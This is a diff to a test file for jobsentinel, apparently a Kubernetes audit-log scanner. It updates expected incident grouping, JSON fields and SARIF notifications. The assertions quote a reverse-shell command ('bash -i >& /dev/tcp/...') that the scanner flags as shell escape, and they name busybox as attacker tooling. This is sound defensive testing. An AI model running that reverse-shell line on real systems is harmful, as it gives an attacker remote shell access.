@@ -17,10 +17,21 @@ describe('jobsentinel audit', () => {
     assert.equal(json.version, 1);
     assert.deepEqual(json.matches.map((match: { auditID: string }) => match.auditID).sort(), MATCHED);
     const first = json.matches.find((match: { auditID: string }) => match.auditID === 'a-privileged');
-    assert.deepEqual(Object.keys(first), ['file', 'line', 'auditID', 'stage', 'timestamp', 'verb', 'resource', 'namespace', 'name', 'user', 'sourceIPs', 'userAgent', 'outcome', 'indicators']);
+    assert.deepEqual(Object.keys(first), [
+      'file', 'line', 'auditID', 'stage', 'timestamp', 'verb', 'resource', 'namespace', 'name', 'user', 'impersonatedUser', 'cloudIdentity', 'owner', 'sourceIPs', 'userAgent', 'outcome', 'indicators',
+    ]);
+    assert.deepEqual([first.impersonatedUser, first.cloudIdentity, first.owner], [null, null, null]);
     assert.deepEqual([first.file, first.line, first.stage], ['logs/audit.log', 2, 'ResponseComplete']);
     assert.deepEqual(Object.keys(first.indicators[0]), ['indicator', 'severity', 'message', 'path', 'evidence']);
-    assert.deepEqual(json.summary, { events: 22, jobWrites: 8, matches: 6, uninspectable: 1, malformed: 0, duplicates: 8 });
+    assert.deepEqual(json.summary, { events: 22, jobWrites: 8, matches: 6, incidents: 6, uninspectable: 1, malformed: 0, duplicates: 8 });
+    assert.deepEqual(Object.keys(json), ['version', 'mode', 'matches', 'uninspectable', 'incidents', 'errors', 'summary']);
+    assert.deepEqual(json.uninspectable.map((write: { auditID: string; reason: string; line: number; file: string }) => [write.file, write.line, write.auditID, write.reason]), [
+      ['logs/audit.log', 13, 'a-metadata', 'Metadata level'],
+    ]);
+    assert.deepEqual(json.incidents.find((incident: { name: string }) => incident.name === 'sync'), {
+      kind: 'Job', namespace: 'payments', name: 'sync', severity: 'error', first: '2026-03-02T10:00:04.000Z', last: '2026-03-02T10:00:04.000Z', matches: 1, denied: 0,
+      indicators: ['shell-escape', 'attacker-tooling'], users: ['mallory@example.com'], impersonatedUsers: [], cloudIdentities: [], file: 'logs/audit.log', line: 4,
+    });
     assert.deepEqual(json.errors, []);
   });
 
@@ -78,16 +89,23 @@ describe('jobsentinel audit', () => {
     assert.match(result.stdout, /cronjob\.yaml:1: error: not an audit log: .*Accepted formats: kube-apiserver/);
   });
 
-  test('the text report: per match when, who, what, the outcome and the evidence; then the summary and the advice', () => {
+  test('the text report: incidents first, each with who, when and its requests with the evidence; then what was not inspected, the summary and the advice', () => {
     const dir = workspace({ 'audit.log': KUBE });
     const { status, stdout } = run(['audit', 'audit.log'], { cwd: dir });
     assert.equal(status, 1);
-    assert.match(stdout, /^audit\.log:\d+ {2}\d{4}-\d\d-\d\dT[\d:.]+Z {2}DENIED {2}audit ID a-denied$/m);
-    assert.match(stdout, /^ {2}mallory@example\.com create jobs payments\/sync {2}\(10\.0\.0\.7, kubectl\/v1\.30\.1\)$/m);
-    assert.match(stdout, /^ {4}error {7}shell-escape +Container "main" opens a raw network connection .*: bash -i >& \/dev\/tcp\/198\.51\.100\.7\/4444 0>&1 {2}at \/spec\/template\/spec\/containers\/0\/command\/2$/m);
-    assert.match(stdout, /^ {4}information attacker-tooling +Container "main" uses the busybox image \(busybox:1\.36\)\./m);
-    assert.match(stdout, /^6 suspicious job writes \(1 denied\) in 8 job writes among 22 events \(1 file, structural mode, kube-apiserver\)\.$/m);
-    assert.match(stdout, /1 job write was logged without a body \(Metadata level\) .* level: RequestResponse/);
+    assert.match(stdout, /^Incidents \(6\)$/m);
+    assert.ok(stdout.indexOf('Incidents (6)') < stdout.indexOf('Not inspected'));
+    assert.match(stdout, /^2\. error {2}Job payments\/sync {2}1 suspicious write {2}2026-03-02T10:00:04\.000Z$/m);
+    assert.match(stdout, /^ {3}Indicators: shell-escape, attacker-tooling$/m);
+    assert.match(stdout, /^ {3}Users: mallory@example\.com$/m);
+    assert.match(stdout, /^ {5}audit\.log:\d+ {2}\d{4}-\d\d-\d\dT[\d:.]+Z {2}DENIED {2}audit ID a-denied$/m);
+    assert.match(stdout, /^ {7}mallory@example\.com create jobs payments\/sync {2}\(10\.0\.0\.7, kubectl\/v1\.30\.1\)$/m);
+    assert.match(stdout, /^ {9}error {7}shell-escape +Container "main" opens a raw network connection .*: bash -i >& \/dev\/tcp\/198\.51\.100\.7\/4444 0>&1 {2}at \/spec\/template\/spec\/containers\/0\/command\/2$/m);
+    assert.match(stdout, /^ {9}information attacker-tooling +Container "main" uses the busybox image \(busybox:1\.36\)\./m);
+    assert.match(stdout, /^ {2}CronJob payments\/hidden: 1 write \(Metadata level\) by mallory@example\.com, 2026-03-02T10:00:13\.000Z$/m);
+    assert.match(stdout, /^ {4}first: audit\.log:13, create by mallory@example\.com, audit ID a-metadata$/m);
+    assert.match(stdout, /^6 suspicious job writes in 6 incidents \(1 denied\) among 8 job writes in 22 events \(1 file, structural mode, kube-apiserver\)\.$/m);
+    assert.match(stdout, /1 job write was logged without a body and could not be inspected \(listed above\)\. .* level: RequestResponse/);
     assert.doesNotMatch(stdout, /\u001b\[/, 'no colour when stdout is not a terminal');
   });
 
@@ -106,7 +124,14 @@ describe('jobsentinel audit', () => {
     assert.equal(result.locations[0].physicalLocation.region.startLine, 2);
     const hits = runJson(['audit', 'audit.log'], { cwd: dir }).json.matches.reduce((count: number, match: { indicators: unknown[] }) => count + match.indicators.length, 0);
     assert.equal(runLog.results.length, hits);
-    assert.match(runLog.invocations[0].toolExecutionNotifications.at(-1).message.text, /1 job writes were logged without their body/);
+    const notifications = runLog.invocations[0].toolExecutionNotifications;
+    assert.match(notifications.at(-2).message.text, /1 job writes were logged without a body to inspect \(each is listed\)/);
+    assert.equal(notifications.at(-1).message.text, 'mallory@example.com create cronjobs payments/hidden (allowed) at 2026-03-02T10:00:13.000Z could not be inspected: Metadata level.');
+    assert.equal(notifications.at(-1).locations[0].physicalLocation.region.startLine, 13);
+    assert.equal(notifications.at(-1).properties.reason, 'Metadata level');
+    assert.deepEqual(runLog.properties.incidents.map((incident: { name: string }) => incident.name), ['node-debug', 'sync', 'report', 'escape', 'etl', 'warm']);
+    assert.equal(result.properties.incident, 'CronJob payments/node-debug');
+    assert.match(result.correlationGuid, /^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
   });
 
   test('--mode elastic runs the seed rule over the raw events', () => {
